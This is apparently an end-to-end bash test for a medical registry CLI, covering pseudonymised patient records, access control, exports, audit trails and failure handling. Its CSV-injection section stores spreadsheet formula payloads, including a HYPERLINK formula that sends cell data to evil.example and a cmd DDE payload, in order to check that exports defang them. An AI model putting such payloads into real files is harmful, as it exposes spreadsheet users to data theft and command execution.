#!/usr/bin/env bash
# The foundation end to end through the real CLI: one patient, two
# physicians, differently typed identifiers; records, versions, exports,
# identity administration; nobody sees what is not theirs.
. "$(dirname "$0")/lib.sh"

REC='{"side":"left","implant":"Corail KA","surgery_date":"2021-05-04","harris_hip_score":62,"weight":81.5}'
REC_B='{"side":"left","implant":"Corail KA","surgery_date":"2021-05-04","harris_hip_score":88,"depression_screen":"negative"}'

expect 0 "Dr A registers Jürgen Müller" -- as dr-a --json patient register --module hip \
  --id family_name="Müller" --id given_name="Jürgen" --id birth_date=1961-03-07
cp "$W/out" a.json
expect 0 "Dr B registers the same patient typed differently" -- as dr-b --json patient register --module hip \
  --id family_name=" MÜLLER " --id given_name="JÜRGEN" --id birth_date=07.03.1961
cp "$W/out" b.json
IA=$(json a.json .internal_id); IB=$(json b.json .internal_id)
[ "$IA" != "$IB" ] && ok "two physicians get two internal IDs" || fail "internal IDs differ"
[ "$(json b.json .new_relation)" = true ] && ok "the reply does not reveal that the patient was known" || fail "new_relation"
expect 0 "Dr A registers the patient again" -- as dr-a --json patient register --module hip \
  --id family_name="muller" --id given_name="jurgen" --id birth_date=19610307
[ "$(json "$W/out" .internal_id)" = "$IA" ] && ok "same physician and patient → same internal ID" || fail "stable internal ID"
json "$W/out" .psn_token > a2.tok

expect 0 "Dr A files a record with the PSN token" -- as dr-a --json record add --module hip --internal-id "$IA" \
  --token "$(json a.json .psn_token)" --data "$REC"
RA=$(json "$W/out" .record_id)
expect 0 "Dr A files a second record without a token" -- as dr-a record add --module hip --internal-id "$IA" --data "$REC"
expect 0 "a later token for the same relation is accepted once" -- as dr-a record add --module hip \
  --internal-id "$IA" --token-file a2.tok --data "$REC"
expect 0 "Dr B files a record" -- as dr-b --json record add --module hip --internal-id "$IB" \
  --token "$(json b.json .psn_token)" --data "$REC_B"
RB=$(json "$W/out" .record_id)

expect 0 "Dr A lists records" -- as dr-a --json record list --module hip
[ "$(jq '.records | length' "$W/out")" = 3 ] && ok "Dr A sees exactly the three records filed under their ID" || fail "Dr A list count"
lacks "$W/out" "$RB" "Dr A's list does not include Dr B's record"
expect 0 "Dr B lists records" -- as dr-b --json record list --module hip
[ "$(jq '.records | length' "$W/out")" = 1 ] && ok "Dr B sees exactly their one record" || fail "Dr B list count"
expect 3 "Dr B reading Dr A's record is refused" -- as dr-b --json record show "$RA"
lacks "$W/out" "Corail" "nothing of the record leaks in the refusal"
contains "$W/out" '"code":"forbidden"' "the refusal has the error shape"
expect 3 "Dr B listing Dr A's internal ID is refused" -- as dr-b record list --module hip --internal-id "$IA"
expect 3 "Dr B correcting Dr A's record is refused" -- as dr-b record correct "$RA" --data "$REC_B"
expect 4 "a record ID that does not exist" -- as dr-a record show 0123456789abcdef0123456789abcdef

expect 0 "Dr A corrects a record: a new version" -- as dr-a --json record correct "$RA" \
  --data '{"side":"left","implant":"Corail KA","surgery_date":"2021-05-04","harris_hip_score":64}'
[ "$(json "$W/out" .version)" = 2 ] && ok "the correction is version 2" || fail "version 2"
expect 0 "both versions are kept" -- as dr-a --json record show "$RA"
[ "$(jq '.versions | length' "$W/out")" = 2 ] && [ "$(jq '.versions[0].data.harris_hip_score' "$W/out")" = 62 ] \
  && ok "version 1 is unchanged" || fail "versions"
# one's own record is written from the stored text; it must be the same compact, key-sorted JSON as every other answer
[ "$(jq -cS . "$W/out")" = "$(cat "$W/out")" ] && ok "the record is compact JSON with sorted keys" || fail "record JSON form"
cp "$W/out" shown.json
as dr-a --json record list --module hip > listed.json
[ "$(jq -cS '.versions[-1]' shown.json)" = "$(jq -cS --arg r "$RA" '.records[] | select(.record_id == $r)' listed.json)" ] \
  && ok "a record shown is the same object as the record listed (two writers of one form)" || fail "show and list differ"

# the patient's record in another module, which no hip extract may hold
as dr-a --json patient register --module knee --id family_name="Müller" --id given_name="Jürgen" \
  --id birth_date=1961-03-07 > ak.json
expect 0 "Dr A files the patient's knee record" -- as dr-a record add --module knee --internal-id "$(json ak.json .internal_id)" \
  --token "$(json ak.json .psn_token)" --data '{"side":"left","implant":"KneeOnlyStem","surgery_date":"2023-03-04"}'
expect 0 "the administrator creates two studies" -- as admin study create --module hip --name study-1
expect 0 "second study" -- as admin study create --module hip --name study-2
expect 4 "a study name is unique" -- as admin study create --module hip --name study-1
expect 3 "a researcher cannot create a study" -- as researcher study create --module hip --name mine
expect 3 "nor can a physician" -- as dr-a study create --module hip --name mine
expect 0 "the researcher exports study 1" -- as researcher export --module hip --study study-1 -o s1.csv
expect 0 "the researcher exports study 2" -- as researcher export --module hip --study study-2 -o s2.csv
[ "$(wc -l < s1.csv)" = 5 ] && ok "the extract has a header and the four current records" || fail "extract rows $(wc -l < s1.csv)"
lacks s1.csv "$IA" "no internal IDs in the extract"
lacks s1.csv "KneeOnlyStem" "no record of another module in the extract"
lacks s1.csv "$(as admin --json whoami --on registry >/dev/null; "$MEDREG" pki fingerprint pki/dr-a.crt)" "no physician fingerprints"
[ "$(cut -d, -f1 s1.csv | tail -n +2 | sort -u | wc -l)" = 1 ] && ok "one patient, one study pseudonym: records stay linked" || fail "linkage"
S1=$(sed -n 2p s1.csv | cut -d, -f1); S2=$(sed -n 2p s2.csv | cut -d, -f1)
[ "$S1" != "$S2" ] && ! grep -q "$S1" s2.csv && ok "the two studies' pseudonyms cannot be joined" || fail "study pseudonyms join"
contains s1.csv ',64,' "the extract holds the latest version"
expect 3 "a physician cannot export" -- as dr-a export --module hip --study study-1
expect 4 "an unknown study" -- as researcher export --module hip --study nope
expect 3 "a researcher of hip cannot export knee" -- as researcher export --module knee --study study-1

expect 0 "registry statistics for the administrator" -- as admin --json stats
[ "$(jq '.modules[] | select(.module=="hip") | .subjects' "$W/out")" = 1 ] && ok "one subject in hip" || fail "subjects"
[ "$(jq '.modules[] | select(.module=="hip") | .versions' "$W/out")" = 5 ] && ok "five record versions" || fail "versions count"
expect 3 "a researcher cannot see statistics" -- as researcher stats

expect 0 "the module administrator searches by name" -- as modadmin --json patient search --module hip \
  --field family_name --value "MULLER"
[ "$(jq '.patients | length' "$W/out")" = 1 ] && ok "one patient" || fail "search count"
[ "$(jq '.patients[0].relations | length' "$W/out")" = 2 ] && ok "with two physician relations" || fail "relations"
PID=$(jq -r '.patients[0].id' "$W/out")
expect 0 "the module administrator views the patient" -- as modadmin patient show "$PID"
contains "$W/out" "Jürgen" "the original spelling is kept"
expect 3 "a physician cannot search identities" -- as dr-a patient search --module hip --field family_name --value Müller
expect 3 "a physician cannot view identities" -- as dr-a patient show "$PID"
# a module administrator of hip has no power in knee: the same patient's knee identity stays closed
idsql() { # SQL on the identity database (either engine)
  if [ "$ENGINE" = postgres ]; then psql -qAt -p "$PG_PORT" -h /var/run/postgresql "${IDENTITY_DB%%\?*}" -c "$1"
  else sqlite3 -cmd ".timeout 10000" "$W/identity.db" "$1"; fi
}
PK=$(idsql "SELECT patient_id FROM relations WHERE internal_id = '$(json ak.json .internal_id)'")
[ -n "$PK" ] && [ "$PK" != "$PID" ] && ok "the knee identity is another patient record" || fail "knee patient id '$PK'"
expect 3 "the hip module administrator cannot search knee" -- as modadmin patient search --module knee \
  --field family_name --value Müller
expect 3 "nor view the patient's knee identity" -- as modadmin patient show "$PK"
lacks "$W/out" "Jürgen" "nothing of it in the refusal"
expect 3 "nor correct it" -- as modadmin patient correct "$PK" \
  --id family_name="Muller" --id given_name="Jürgen" --id birth_date=1961-03-07
expect 0 "a correction that keeps the PSN" -- as modadmin patient correct "$PID" \
  --id family_name="MÜLLER" --id given_name="Jürgen" --id birth_date=1961-03-07
expect 4 "a correction that changes the PSN needs --relink" -- as modadmin patient correct "$PID" \
  --id family_name="Müller" --id given_name="Jürgen Karl" --id birth_date=1961-03-07
expect 0 "with --relink it is done" -- as modadmin patient correct "$PID" --relink --reason "second given name" \
  --id family_name="Müller" --id given_name="Jürgen Karl" --id birth_date=1961-03-07
expect 0 "the identity audit trail" -- as admin --json audit --on identity --limit 1000
contains "$W/out" '"action":"patient_relink"' "the relink is logged"
expect 0 "after the relink, Dr B's new token leads to the same subject" -- as dr-b --json patient register --module hip \
  --id family_name="Müller" --id given_name="Jürgen Karl" --id birth_date=1961-03-07
[ "$(json "$W/out" .internal_id)" = "$IB" ] && ok "Dr B keeps their internal ID" || fail "relink keeps the relation"
expect 0 "Dr B files with the relinked token" -- as dr-b record add --module hip --internal-id "$IB" \
  --token "$(json "$W/out" .psn_token)" --data "$REC_B"
expect 0 "statistics" -- as admin --json stats
[ "$(jq '.modules[] | select(.module=="hip") | .subjects' "$W/out")" = 1 ] && ok "still one subject after the relink" || fail "relink subjects"

# the audit trail names physicians, internal IDs and patients' records: administrators only
expect 3 "a physician cannot read the registry's audit trail" -- as dr-a audit --on registry
expect 3 "nor a researcher" -- as researcher audit --on registry
expect 3 "nor a module administrator the identity service's" -- as modadmin audit --on identity
expect 0 "the registry audit trail" -- as admin --json audit --on registry --limit 1000
for a in record_write record_read record_correct export study_create; do
  contains "$W/out" "\"action\":\"$a\"" "audit has $a"
done
contains "$W/out" '"outcome":"refused"' "audit has the refusals"
curl -s -o /dev/null --cacert pki/ca.crt --cert pki/monitor.crt --key pki/monitor.key "$MEDREG_REGISTRY/v1/no-such-route" || true
expect 0 "metrics for the monitor" -- as monitor metrics --on registry
contains "$W/out" 'medreg_http_requests_total{role="registry",route="record_add",code="2xx"}' "metrics count requests"
contains "$W/out" 'medreg_http_requests_total{role="registry",route="unmatched",code="4xx"}' "and requests no route takes"
expect 3 "metrics are not for physicians" -- as dr-a metrics --on registry
expect 3 "an unregistered certificate from the trusted CA gets 403" -- as dr-x whoami --on registry
expect 3 "... and cannot register patients" -- as dr-x patient register --module hip --id family_name=X --id given_name=Y --id birth_date=2000-01-01
expect 3 "... nor list records" -- as dr-x record list --module hip

# Batch registration: all or nothing, one line per patient, usable tokens.
cat > batch.json <<'EOB'
[{"family_name":"Batch","given_name":"One","birth_date":"1990-01-01"},
 {"family_name":"Batch","given_name":"Two","birth_date":"02.02.1990"},
 {"family_name":"Müller","given_name":"Jürgen Karl","birth_date":"1961-03-07"}]
EOB
expect 0 "Dr A registers three patients in one batch" -- as dr-a patient register-batch --module hip --file batch.json
[ "$(wc -l < "$W/out")" = 3 ] && ok "one line per patient" || fail "batch output lines"
BI=$(sed -n 3p "$W/out" | cut -d' ' -f1)
[ "$BI" = "$IA" ] && ok "a known patient keeps Dr A's internal ID in a batch" || fail "batch internal ID ($BI vs $IA)"
B1=$(sed -n 1p "$W/out")
expect 0 "a batch token files a record" -- as dr-a record add --module hip --internal-id "${B1%% *}" --token "${B1#* }" --data "$REC"
cat > badbatch.json <<'EOB'
[{"family_name":"Batch","given_name":"Three","birth_date":"1990-01-03"},
 {"family_name":"Batch","given_name":"Four","birth_date":"1990-02-30"}]
EOB
expect 4 "a batch with one impossible date is refused whole" -- as dr-a patient register-batch --module hip --file badbatch.json
contains "$W/err" "patients\[1\]" "the error names the item"
expect 0 "search" -- as modadmin --json patient search --module hip --field given_name --value Three
[ "$(jq '.patients | length' "$W/out")" = 0 ] && ok "nothing of the refused batch was stored" || fail "partial batch stored"
echo '[]' > empty.json
expect 4 "an empty batch" -- as dr-a patient register-batch --module hip --file empty.json
expect 3 "batches need the physician role" -- as researcher patient register-batch --module hip --file batch.json

# Corrections at once are numbered in the commit that stores them: eight
# concurrent ones give eight new versions, each number once, none lost.
before=$(as dr-a --json record show "$RA" | jq '.versions | length')
pids=()
for i in 1 2 3 4 5 6 7 8; do
  as dr-a --json record correct "$RA" --data "{\"side\":\"left\",\"implant\":\"c$i\",\"surgery_date\":\"2021-05-04\"}" \
    > "corr.$i.json" 2>&1 &
  pids+=($!)
done
wait "${pids[@]}"
as dr-a --json record show "$RA" > versions.json
[ "$(jq '.versions | length' versions.json)" = $((before + 8)) ] && ok "eight concurrent corrections: eight new versions" \
  || fail "concurrent corrections: $(jq '.versions | length' versions.json) versions, $before before"
[ "$(jq '[.versions[].version] | unique | length' versions.json)" = $((before + 8)) ] \
  && [ "$(cat corr.*.json | jq -s '[.[].version] | unique | length')" = 8 ] && ok "each version number once" \
  || fail "version numbers repeat"

# A physician's text that a spreadsheet would run as a formula (CSV injection): the exact
# extract keeps it as stored, --spreadsheet defangs it with a leading apostrophe.
TF=$(as dr-a --json patient register --module hip --id family_name=Formel --id given_name=Eva \
  --id birth_date=1966-06-06 | jq -r '"\(.internal_id) \(.psn_token)"')
for v in '=HYPERLINK(\"http://evil.example/?\"&A1,\"Corail\")' "+cmd|' /C calc'!A0" '-2+3' '@SUM(A1:A9)' 'Corail -5' \
  'Corail\r\nrevision 2'; do
  as dr-a record add --module hip --internal-id "${TF% *}" --token "$(as dr-a --json patient register --module hip \
    --id family_name=Formel --id given_name=Eva --id birth_date=1966-06-06 | jq -r .psn_token)" \
    --data "{\"side\":\"left\",\"implant\":\"$v\",\"surgery_date\":\"2022-02-02\"}" >/dev/null \
    || fail "record with implant $v"
done
expect 0 "a third study" -- as admin study create --module hip --name study-3
expect 0 "the exact extract" -- as researcher export --module hip --study study-3 -o exact.csv
rows=$(python3 -c 'import csv,sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))) - 1)' exact.csv)
contains "$W/err" "wrote $rows rows" "the count of rows written is the CSV's, a value with a line break one row"
# on a terminal, a line counts the rows as they come; not when the rows go to that terminal
script -qec "'$MEDREG' --as pki/researcher export --module hip --study study-3 -o tty.csv" /dev/null > "$W/tty" \
  && cmp -s tty.csv exact.csv && ok "an export to a file from a terminal writes the same extract" \
  || fail "an export from a terminal: $(cat "$W/tty")"
contains "$W/tty" "$rows rows, 0.0 MB" "and shows its rows and bytes on the terminal"
script -qec "'$MEDREG' --as pki/researcher export --module hip --study study-3" /dev/null > "$W/tty"
lacks "$W/tty" "rows, 0" "an export to the terminal itself shows no progress among its rows"
expect 0 "the extract for spreadsheets" -- as researcher export --module hip --study study-3 --spreadsheet -o sheet.csv
python3 - exact.csv sheet.csv <<'PY' && ok "exact keeps =,+,-,@ cells as stored; --spreadsheet puts an apostrophe before each, and only those" || fail "formula cells"
import csv, sys
def implants(p):
    rows = list(csv.DictReader(open(p, newline='', encoding='utf-8')))
    return sorted(r['implant'] for r in rows)
exact, sheet = implants(sys.argv[1]), implants(sys.argv[2])
want = ['=HYPERLINK("http://evil.example/?"&A1,"Corail")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', 'Corail -5']
assert all(w in exact for w in want), exact
assert 'Corail\r\nrevision 2' in exact, exact
assert len(exact) == len(sheet)
for e in exact:
    s = "'" + e if e[:1] in "=+-@\t\r" else e
    assert s in sheet, (e, sheet)
PY
[ "$(wc -l < exact.csv)" = "$(wc -l < sheet.csv)" ] && ok "the same rows in both" || fail "row counts differ"
status=$(curl -s -o /dev/null -w '%{http_code}' --cacert pki/ca.crt --cert pki/researcher.crt --key pki/researcher.key \
  "$MEDREG_REGISTRY/v1/export?module=hip&study=study-3&cells=formulas")
[ "$status" = 400 ] && ok "cells=formulas → 400" || fail "cells=formulas → $status"
# the extract reaches its file whole or not at all
cp exact.csv kept.csv
expect 4 "an export that is refused leaves the file as it was" -- as researcher export --module hip --study nope -o kept.csv
cmp -s exact.csv kept.csv && ok "the old extract is still there, unchanged" || fail "a refused export changed the file"
ls kept.csv.tmp.* >/dev/null 2>&1 && fail "a temporary file was left behind" || ok "no temporary file left behind"
expect 7 "an output folder that is not there: a clear local error" -- as researcher export --module hip --study study-3 -o no-dir/x.csv
contains "$W/err" "cannot write beside no-dir/x.csv" "the message names the file"
# a registry that dies in the middle of an extract (its chunked body cut short): the file is not made
# (the port is the system's choice, written to cut.ready: a fixed one was sometimes taken by another test)
python3 - <<'PY' &
import os, socket, ssl
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("pki/registry.crt", "pki/registry.key")
ctx.load_verify_locations("pki/ca.crt")
ctx.verify_mode = ssl.CERT_REQUIRED
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 0)); srv.listen(1); srv.settimeout(30)
open("cut.ready.tmp", "w").write(str(srv.getsockname()[1]))
os.rename("cut.ready.tmp", "cut.ready")
c, _ = srv.accept()
t = ctx.wrap_socket(c, server_side=True)
req = b""
while b"\r\n\r\n" not in req:
    req += t.recv(4096)
row = b"subject,record,version,recorded_on,side\r\n" + b"a,b,1,2026-01-01,left\r\n" * 50
t.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n" +
          b"%x\r\n" % len(row) + row + b"\r\n")
t.close(); srv.close()
PY
CUTPID=$!
for _ in $(seq 100); do [ -e cut.ready ] && break; sleep 0.1; done
CUTPORT=$(cat cut.ready)
expect 6 "an extract cut short by the registry fails" -- as researcher --registry "https://127.0.0.1:$CUTPORT" \
  export --module hip --study study-3 -o cut.csv
wait "$CUTPID" 2>/dev/null || true
contains "$W/err" "outstanding read data" "curl says the body was cut short (not that it could not connect)"
[ ! -e cut.csv ] && ! ls cut.csv.tmp.* >/dev/null 2>&1 && ok "and leaves no file, whole or partial" \
  || fail "a partial extract was left: $(ls cut.csv* 2>/dev/null)"
expect 0 "the extract to stdout is the same as to a file" -- as researcher export --module hip --study study-3
cmp -s "$W/out" exact.csv && ok "stdout and file extracts match" || fail "stdout extract differs"
got=0
as researcher export --module hip --study study-3 > /dev/full 2> "$W/err" || got=$?
[ "$got" = 7 ] && ok "an extract to stdout on a full disk (/dev/full): a local error" || fail "extract to /dev/full: exit $got"
contains "$W/err" "cannot write the output: No space left on device" "the error says why"

# The registry never holds identifying data; the identity service holds it only encrypted.
dump() {
  if [ "$ENGINE" = postgres ]; then pg_dump -p "$PG_PORT" "$(echo "$1" | sed 's|postgresql:///\([^?]*\).*|\1|')"
  else sqlite3 "${1#sqlite:}" .dump; cat "${1#sqlite:}"* ; fi
}
dump "$REGISTRY_DB" > registry.dump 2>/dev/null
dump "$IDENTITY_DB" > identity.dump 2>/dev/null
for needle in Müller MÜLLER muller Jürgen jurgen 1961-03-07 07.03.1961; do
  lacks registry.dump "$needle" "the registry database does not contain '$needle'"
  lacks identity.dump "$needle" "the identity database does not contain '$needle' in the clear"
done
# A second daemon on a port in use refuses to start: it never shares the
# first one's connections (no SO_REUSEPORT).
st=0; timeout 10 "$MEDREGD" --config registry.ini > second.log 2>&1 || st=$?
[ "$st" = 1 ] && ok "a second registry on the same port exits 1" || fail "a second registry on the same port: status $st"
contains second.log "cannot start HTTPS" "and says it cannot listen"
expect 0 "the first one still answers" -- as dr-a record list --module hip
# last (it leaves a damaged row): a stored record that does not parse stops the export, which the
# client keeps no file of, and the registry says why
if [ "$ENGINE" = sqlite ]; then
  sqlite3 -cmd ".timeout 10000" "${REGISTRY_DB#sqlite:}" "INSERT INTO records SELECT 'ffffffffffffffffffffffffffffffff', 1,
    module, subject, internal_id, physician, created_at, 'not json' FROM records LIMIT 1"
  expect 6 "an export over a damaged record stops" -- as researcher export --module hip --study study-3 -o damaged.csv
  [ ! -e damaged.csv ] && ok "and leaves no file" || fail "a file from a stopped export"
  contains "$W/registry.log" "an export of module hip, study study-3, stopped after" "the registry's log says which export stopped"
fi
finish
